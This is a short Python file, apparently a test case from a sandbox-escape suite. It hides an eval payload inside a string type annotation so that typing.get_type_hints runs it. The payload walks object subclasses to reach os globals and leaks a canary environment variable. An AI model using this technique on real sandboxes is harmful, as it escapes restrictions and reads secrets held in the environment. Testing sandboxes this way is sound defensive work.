"""No string is evaluated unchecked because it is code only for who evaluates it."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("typing",)


import typing

found = []
CODE = (
    "leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['environ']['VAAS_CANARY'])"
)


def leak(value):
    found.append(value)
    return [int]


class Holder:
    x: "*" + CODE


def attack():
    typing.get_type_hints(Holder)
    return "ESCAPED: " + found[0]
